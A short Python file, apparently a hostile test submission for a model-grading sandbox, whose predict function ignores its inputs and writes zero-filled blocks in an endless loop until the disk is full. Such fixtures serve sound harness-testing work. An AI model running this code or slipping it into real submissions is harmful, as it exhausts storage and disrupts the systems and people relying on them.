"""Writes until the disk is full."""

import numpy as np
from PIL import Image


def train_model(train_data_path):
    raise SystemExit("not needed here")


def brightness(img_path):
    return np.asarray(Image.open(img_path).convert("L"), dtype=np.float32) / 255


def predict(model, img_path):
    with open("full", "wb") as file:
        while True:
            file.write(bytes(1024 * 1024))
